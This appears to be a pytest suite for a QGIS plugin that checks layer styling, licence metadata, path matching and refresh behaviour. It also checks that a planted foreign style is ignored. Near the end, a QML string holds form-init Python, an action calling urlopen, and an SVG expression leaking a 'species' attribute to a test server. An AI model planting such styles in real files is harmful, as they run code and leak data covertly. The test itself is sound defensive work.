"""Layers of a working copy: styled to be read, with licence, found again, and never with what a foreign file brings along."""

from __future__ import annotations

import os
import sqlite3
from contextlib import closing

import pytest
from benches import plain_sqlite
from hostile import Hostile

from urban_data_workbench.plugin.core.dataset import Dataset, DatasetKind
from urban_data_workbench.plugin.core.errors import Damaged
from urban_data_workbench.plugin.core.feature import Feature
from urban_data_workbench.plugin.store.working_copy import WorkingCopy


@pytest.fixture
def layers(qgis_app):
    from urban_data_workbench.plugin.bridge import layers as found

    return found


def legend(layer) -> list[str]:
    """The texts of a layer's legend."""
    return [item.label() for item in layer.renderer().legendSymbolItems()]


def drawn(layer) -> object:
    """The picture of a layer."""
    from qgis.core import QgsMapRendererParallelJob, QgsMapSettings
    from qgis.PyQt.QtCore import QSize

    settings = QgsMapSettings()
    settings.setLayers([layer])
    settings.setDestinationCrs(layer.crs())
    settings.setExtent(layer.extent().buffered(max(layer.extent().width(), 0.001) / 10))
    settings.setOutputSize(QSize(200, 200))
    job = QgsMapRendererParallelJob(settings)
    job.start()
    job.waitForFinished()
    return job.renderedImage()


def colours(layer) -> set[str]:
    image = drawn(layer)
    return {image.pixelColor(x, y).name() for x in range(image.width()) for y in range(image.height())}


def test_stations_are_coloured_by_their_value_and_grey_without_one(stations):
    layer = stations.layer()
    texts = legend(layer)
    assert len(texts) == 6 and texts[-1] == "no value" and all(text.endswith("°C") for text in texts[:-1])
    assert layer.labelsEnabled() and "°C" in layer.labeling().settings().fieldName
    assert {"#440154", "#fde725", "#9a9a9a"} <= colours(layer)


def test_contributions_get_seven_colours_and_the_rest_is_named_other(contributions):
    layer = contributions.layer()
    assert legend(layer) == [f"K{n}" for n in range(7)] + ["other"]
    assert layer.featureCount() == 90
    assert sum(1 for row in layer.getFeatures() if not row.hasGeometry()) == 9


def test_where_every_category_has_its_colour_the_rest_is_without_one(path, qgis_app):
    from urban_data_workbench.tests.bridge.conftest import CONTRIBUTIONS, Shown, place

    dataset = Dataset("small", "dipas|x", DatasetKind.CONTRIBUTIONS, "Radnetz")
    rows = [Feature(str(n), place(n), {"title": "t", "category": kind}) for n, kind in enumerate(("Weg", "Licht", None))]
    assert legend(Shown(path, dataset, CONTRIBUTIONS, rows).layer()) == ["Licht", "Weg", "no category"]


def test_many_features_are_drawn_without_labels(trees):
    layer = trees.layer()
    assert layer.featureCount() == 600 and not layer.labelsEnabled() and len(legend(layer)) == 1
    assert layer.crs().authid() == "EPSG:25832" and len(colours(layer)) > 1


def test_licence_and_source_are_in_the_layers_metadata(trees, stations):
    for shown in (trees, stations):
        metadata = shown.layer().metadata()
        assert metadata.title() == shown.dataset.title and metadata.abstract() == shown.dataset.description
        assert metadata.licenses() == ["DL-DE-BY-2.0", "https://www.govdata.de/dl-de/by-2-0"]
        assert metadata.rights() == ["Stadt Musterstadt"]
        assert [link.url for link in metadata.links()] == ["https://www.govdata.de/dl-de/by-2-0"]


def test_forms_offer_what_the_platform_takes(trees):
    from qgis.core import QgsFieldConstraints

    layer = trees.layer()
    fields = layer.fields()
    assert [layer.attributeAlias(fields.lookupField(name)) for name in ("species", "height", "state")] == ["Art", "Höhe (m)", "Zustand"]
    choices = layer.editorWidgetSetup(fields.lookupField("state"))
    assert choices.type() == "ValueMap" and choices.config()["map"] == [{"gut": "gut"}, {"mäßig": "mäßig"}, {"gefällt": "gefällt"}]
    required = layer.fieldConstraints(fields.lookupField("species"))
    assert required & QgsFieldConstraints.Constraint.ConstraintNotNull
    assert layer.editorWidgetSetup(fields.lookupField("remote_id")).type() == "Hidden"


def test_the_same_table_is_added_once(trees, layers, project):
    for _ in range(2):
        layers.add(project, [trees.layer()])
    assert len(project.mapLayers()) == 1


def test_refreshing_shows_new_values_and_keeps_selection_style_and_number_of_layers(stations, layers, project):
    from qgis.core import QgsSingleSymbolRenderer, QgsSymbol

    layers.add(project, [stations.layer()])
    (layer,) = layers.of_working_copy(project, stations.path)
    first = next(layer.getFeatures())
    layer.select(first.id())
    layer.setRenderer(QgsSingleSymbolRenderer(QgsSymbol.defaultSymbol(layer.geometryType())))
    with plain_sqlite(stations.path) as connection:
        connection.execute(f'UPDATE "{stations.table}" SET value = 77.5 WHERE fid = ?', (first.id(),))
    layers.refresh(project, stations.path)
    assert layer.getFeature(first.id())["value"] == 77.5
    assert layer.isEditable() is False and layer.selectedFeatureIds() == [first.id()] and layer.renderer().type() == "singleSymbol"
    assert layers.of_working_copy(project, stations.path) == (layer,)


def test_a_layer_on_the_map_is_not_left_empty_when_its_file_was_looked_into(trees, stations, layers, project):
    """QGIS reads without locks where it may; our connection then changes the file's mode under it."""
    layers.add(project, [trees.layer(), stations.layer()])
    found = layers.of_working_copy(project, trees.path)
    filled = {layer.name(): len(list(layer.getFeatures())) for layer in found}
    assert filled == {"Baumkataster": 600, "Lufttemperatur": 20}
    with WorkingCopy.open(trees.path) as copy:
        copy.datasets()
    assert {layer.name(): len(list(layer.getFeatures())) for layer in found} == filled
    with WorkingCopy.open(trees.path):  # while it is open, they may be unreadable
        for layer in found:
            layer.featureCount()
    layers.revive(project)
    assert {layer.name(): layer.featureCount() for layer in found} == filled
    assert {layer.name(): len(list(layer.getFeatures())) for layer in found} == filled


def test_a_layer_in_edit_mode_is_named_and_not_refreshed(trees, layers, project):
    layers.add(project, [trees.layer()])
    (layer,) = layers.of_working_copy(project, trees.path)
    assert layers.being_edited(project, trees.path) == ()
    layer.startEditing()
    layer.changeAttributeValue(1, layer.fields().lookupField("height"), 1.25)
    layers.refresh(project, trees.path)
    assert layers.being_edited(project, trees.path) == ("Baumkataster",) and layer.getFeature(1)["height"] == 1.25
    layer.rollBack()


@pytest.fixture(params=["through a link", "with a dot", "with two slashes", "by a second name"])
def other_source(request, trees, layers):
    """The same table, as another program or another project spells it."""
    folder, name = trees.path.parent, trees.path.name
    if request.param == "through a link":
        (folder / "link").symlink_to(folder)
        return layers.source(folder / "link" / name, trees.table)
    if request.param == "by a second name":
        os.link(trees.path, folder / "second.gpkg")
        return layers.source(folder / "second.gpkg", trees.table)
    between = "/./" if request.param == "with a dot" else "//"
    return f"{folder}{between}{name}|layername={trees.table}"


def test_a_layer_is_found_however_its_path_is_spelled(trees, layers, project, other_source):
    from qgis.core import QgsVectorLayer

    layer = QgsVectorLayer(other_source, "Bäume", "ogr")
    project.addMapLayer(layer)
    assert layers.of_working_copy(project, trees.path) == (layer,)
    layer.startEditing()
    assert layers.being_edited(project, trees.path) == ("Bäume",)
    layer.rollBack()
    layers.add(project, [trees.layer()])
    assert list(project.mapLayers().values()) == [layer]


def test_layers_of_other_files_and_of_none_are_not_taken_for_ours(trees, layers, project, tmp_path):
    from qgis.core import QgsVectorLayer

    project.addMapLayer(QgsVectorLayer("Point?crs=EPSG:4326", "memory", "memory"))
    project.addMapLayer(QgsVectorLayer(layers.source(tmp_path / "gone.gpkg", trees.table), "gone", "ogr"))
    assert layers.of_working_copy(project, trees.path) == ()
    assert len(layers.of_working_copy(project, tmp_path / "x" / ".." / "gone.gpkg")) == 1


def test_a_saved_project_reopens_with_everything(trees, stations, layers, project, make_project, tmp_path):
    layers.add(project, [trees.layer(), stations.layer()])
    before = {layer.name(): (layer.featureCount(), legend(layer), layer.metadata().licenses()) for layer in project.mapLayers().values()}
    assert project.write(str(tmp_path / "Projekt.qgz"))
    again = make_project()
    assert again.read(str(tmp_path / "Projekt.qgz"))
    found = layers.of_working_copy(again, trees.path)
    assert {layer.name(): (layer.featureCount(), legend(layer), layer.metadata().licenses()) for layer in found} == before
    assert {layer.customProperty(layers.DATASET) for layer in found} == {"trees", "air"}
    assert {layer.customProperty(layers.PROFILE) for layer in found} == {"Musterstadt"}
    layers.add(again, [trees.layer()])
    assert len(again.mapLayers()) == 2


def test_a_table_that_is_gone_is_an_error(trees, layers):
    with pytest.raises(Damaged):
        layers.open_layer(trees.path, "gibtsnicht", title="x")


FOREIGN = """<qgis version="3.40" styleCategories="AllStyleCategories">
 <renderer-v2 type="singleSymbol"><symbols><symbol type="marker" name="0">
  <layer class="SvgMarker" enabled="1"><Option type="Map">
   <Option name="name" type="QString" value="{url}/svg.svg"/><Option name="size" type="QString" value="8"/></Option>
   <data_defined_properties><Option type="Map"><Option name="properties" type="Map"><Option name="name" type="Map">
    <Option name="active" type="bool" value="true"/><Option name="type" type="int" value="3"/>
    <Option name="expression" type="QString" value="'{url}/leak.svg?' || &quot;species&quot;"/>
   </Option></Option></Option></data_defined_properties>
  </layer></symbol></symbols></renderer-v2>
 <editform tolerant="1"/><editforminit>opened</editforminit><editforminitcodesource>2</editforminitcodesource>
 <editforminitcode><![CDATA[import urllib.request
def opened(dialog, layer, feature):
    urllib.request.urlopen("{url}/form")]]></editforminitcode>
 <attributeactions><actionsetting type="1" name="a" action="import urllib.request; urllib.request.urlopen('{url}/action')"/></attributeactions>
</qgis>"""


def plant(shown, url: str) -> None:
    """Put a default style with code and remote pictures into the file, as somebody else's QGIS may have."""
    with closing(sqlite3.connect(shown.path)) as connection, connection:
        connection.execute(
            "CREATE TABLE layer_styles (id INTEGER PRIMARY KEY AUTOINCREMENT, f_table_catalog TEXT, f_table_schema TEXT, f_table_name TEXT,"
            " f_geometry_column TEXT, styleName TEXT, styleQML TEXT, styleSLD TEXT, useAsDefault BOOLEAN, description TEXT, owner TEXT,"
            " ui TEXT, update_time DATETIME)"
        )
        column = connection.execute("SELECT column_name FROM gpkg_geometry_columns WHERE table_name = ?", (shown.table,)).fetchone()[0]
        connection.execute(
            "INSERT INTO layer_styles (f_table_catalog, f_table_schema, f_table_name, f_geometry_column, styleName, styleQML, useAsDefault)"
            " VALUES ('', '', ?, ?, 'fremd', ?, 1)", (shown.table, column, FOREIGN.format(url=url)),
        )
        connection.execute("INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('layer_styles', 'attributes', 'layer_styles')")


def open_form(layer) -> None:
    """Open the attribute form of the first feature."""
    from qgis.gui import QgsAttributeForm

    form = QgsAttributeForm(layer, next(layer.getFeatures()))
    form.show()
    form.close()
    form.deleteLater()


def test_a_foreign_style_is_not_loaded_and_nobody_is_asked_by_opening_drawing_or_editing(trees, layers, project, qtbot):
    from qgis.core import QgsVectorLayer

    with Hostile() as server:
        plant(trees, server.url)
        layer = trees.layer()
        layers.add(project, [layer])
        drawn(layer)
        open_form(layer)
        qtbot.wait(300)
        assert not layer.editFormConfig().initCode() and not layer.actions().actions()
        assert layer.renderer().symbol().symbolLayer(0).layerType() == "SimpleMarker"
        assert not server.visits
        careless = QgsVectorLayer(layers.source(trees.path, trees.table), "x", "ogr")  # what would have happened
        assert careless.editFormConfig().initCode() and careless.renderer().symbol().symbolLayer(0).layerType() == "SvgMarker"
        drawn(careless)
        qtbot.waitUntil(lambda: bool(server.visits), timeout=30_000)
